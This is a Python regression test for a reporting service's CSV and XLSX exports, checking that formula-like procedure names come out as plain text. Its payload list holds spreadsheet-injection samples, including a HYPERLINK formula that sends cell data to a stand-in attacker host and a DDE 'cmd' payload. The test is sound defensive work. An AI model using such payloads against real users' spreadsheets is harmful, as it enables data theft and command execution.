"""Issue 14.7: a unit or procedure name starting with =, +, - or @ became a formula in the leader's
spreadsheet. A dossier event naming its procedure like a formula reaches reporting through the
broker; the CSV and XLSX exports carry the name as plain text."""

import asyncio
import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import httpx
from openpyxl import load_workbook

from motcua_shared.testing.publish import publish_raw

from reporting.testing.event_scripts import DossierScript, Procedure, Unit

from .kit import UNIT, eventually

FORMULAS = (
    '=HYPERLINK("http://attacker.example/?"&A1,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTab",
    "\rReturn",
)


def test_formula_like_names_are_plain_text_in_csv_and_xlsx(system, amqp_url):
    now = datetime.now(UTC)
    events = []
    for n, name in enumerate(FORMULAS):
        script = DossierScript(
            f"{UNIT}-X{uuid.uuid4().hex[:6]}-{n:04d}",
            Unit(UNIT, "UBND phường Tân Định", "79"),
            Procedure(f"9.99900{n}", name, "ho-tich"),
        )
        events.append(script.received(now, now + timedelta(days=5)))
    asyncio.run(
        publish_raw(
            amqp_url,
            system.exchange,
            [(e.model_dump_json().encode(), e.routing_key) for e in events],
        )
    )

    leader = system.token("ld01", UNIT, "leader")
    day = (
        now.astimezone(ZoneInfo("Asia/Ho_Chi_Minh")).date().isoformat()
    )  # report days are Vietnam's
    params = {"unit": UNIT, "from": day, "to": day, "group_by": "procedure"}
    reports = f"{system.urls['reporting']}/api/v1/reports/one-stop"

    def projected() -> bool:
        rows = httpx.get(reports, headers=leader, params=params, timeout=15).json()["rows"]
        return {row["key"] for row in rows} >= {f"9.99900{n}" for n in range(len(FORMULAS))}

    eventually(projected, what="the formula-named procedures in reporting")
    text = httpx.get(reports + ".csv", headers=leader, params=params, timeout=15).content.decode(
        "utf-8-sig"
    )
    labels = {row[0]: row[1] for row in csv.reader(io.StringIO(text, newline=""))}
    for n, name in enumerate(FORMULAS):
        assert labels[f"9.99900{n}"] == "'" + name
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in csv.reader(io.StringIO(text))
        for cell in row
    )

    xlsx = httpx.get(reports + ".xlsx", headers=leader, params=params, timeout=15).content
    sheet = load_workbook(io.BytesIO(xlsx)).active
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=3)}
    for n, name in enumerate(FORMULAS):
        cell = cells[f"9.99900{n}"]
        # text, shown as written (XML keeps a carriage return as a line feed)
        assert cell.data_type == "s" and cell.value == name.replace("\r", "\n") and cell.quotePrefix
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
